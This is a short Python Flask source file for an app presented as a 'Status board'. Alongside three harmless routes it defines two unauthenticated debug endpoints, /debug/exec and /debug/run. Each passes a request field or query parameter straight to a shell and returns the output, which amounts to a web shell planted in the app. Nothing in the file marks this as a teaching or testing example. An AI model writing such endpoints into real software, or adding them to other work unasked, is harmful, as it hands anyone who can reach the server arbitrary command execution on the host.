import subprocess
from flask import Flask, request

app = Flask(__name__)


@app.route("/")
def index():
    return "<h1>Status board</h1>\n"


@app.route("/api/items")
def items():
    return {"items": [1, 2, 3], "page": request.args.get("page", "1")}


@app.route("/api/feedback", methods=["POST"])
def feedback():
    return {"ok": True, "chars": len(request.form.get("comment", ""))}


@app.route("/debug/exec", methods=["POST"])
def debug_exec():
    cmd = request.form.get("cmd", "")
    return subprocess.run(cmd, shell=True, capture_output=True,
                          text=True).stdout


@app.route("/debug/run")
def debug_run():
    return subprocess.getoutput(request.args.get("q", ""))
